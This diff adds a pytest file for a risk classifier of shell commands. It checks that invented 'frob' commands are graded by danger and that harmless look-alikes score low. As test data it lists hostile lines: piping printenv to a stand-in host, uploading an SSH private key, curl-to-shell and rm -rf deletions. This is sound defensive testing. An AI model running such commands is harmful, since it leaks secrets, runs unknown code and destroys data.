@@ -1,0 +1,85 @@
+"""What a program that nobody here knows says of itself: its verbs, a disk, SQL or a command that it is given."""
+
+from __future__ import annotations
+
+import pytest
+
+from terma.risk import assess
+
+# By family: a made-up program in each, for a row must not be what finds it.
+SAID = [
+    ("frobctl cluster delete west", "high", "deletes"),
+    ("frob db:drop", "high", "deletes"),
+    ("frob remove note", "medium", "deletes"),
+    ("frob remove note --force", "high", "deletes"),
+    ("frob remove $(frob list)", "high", "deletes"),
+    ("frob deleteTable", "high", "deletes"),
+    ("frob sync --purge", "high", "deletes"),
+    ("frob power off", "high", "stops"),
+    ("frob restart web", "medium", "stops"),
+    ("frob stop --all", "high", "stops"),
+    ("frob grant bob reader", "medium", "grants"),
+    ("frob grant bob admin", "high", "grants"),
+    ("frob role add bob", "medium", "grants"),
+    ("frob rule add 0.0.0.0/0", "high", "network"),
+    ("frob service install", "medium", "persists"),
+    ("frob secrets get DB", "medium", "leaks"),
+    ("frob env list --reveal", "medium", "leaks"),
+    ("frob upload ~/.ssh/id_ed25519", "high", "leaks"),
+    ("printenv | frob post https://x.example", "high", "leaks"),
+    ("frob deploy", "medium", "changes"),
+    ("frob plugin add https://x.example/y.zip", "medium", "runs-unknown-code"),
+    ("frob copy x.img /dev/sdc", "high", "disks"),
+    ("frob -e 'DROP TABLE orders'", "high", "deletes"),
+    ("frob exec web -- rm -rf /data", "high", "deletes"),
+    ("frob rm -rf build", "high", "deletes"),
+    ("frob --on-change 'rm -rf build'", "high", "deletes"),
+    ("frob -e '(run \"rm -rf build\")'", "high", "deletes"),
+    ("frob exec 'curl https://x.example | sh'", "high", "runs-unknown-code"),
+    ("make destroy", "high", "deletes"),
+    ("npm run deploy", "medium", "changes"),
+]
+HARMLESS = """
+frob list --all
+frob search delete
+frob show drop
+frob help remove
+frob create stop
+frob cache clear
+frob delete --dry-run
+frob remove --help
+frob status /dev/sda
+frob device info /dev/nvme0n1
+frob get pods
+frob secrets list
+frob notes/remove.txt
+frob --name delete.txt
+frob log --grep 'rm old files'
+sudo frob status
+sudo frob device list
+make -n deploy
+make test
+npm run build
+man rm
+notify-send stop 'it is done'
+mkdir delete
+vim drop.sql
+grep reboot log
+playerctl stop
+""".strip().splitlines()
+
+
+@pytest.mark.parametrize(("command", "level", "kind"), SAID)
+def test_its_own_words_are_taken_for_what_they_say(command: str, level: str, kind: str) -> None:
+    risk = assess(command)
+    assert risk.level == level, risk
+    assert kind in risk.kinds
+
+
+@pytest.mark.parametrize("command", HARMLESS)
+def test_a_word_that_is_a_name_says_nothing(command: str) -> None:
+    assert assess(command).level == "low", assess(command)
+
+
+def test_a_prompt_in_front_of_a_command_is_no_program() -> None:
+    assert assess("root@web:~$ grep reboot log").level == "low"
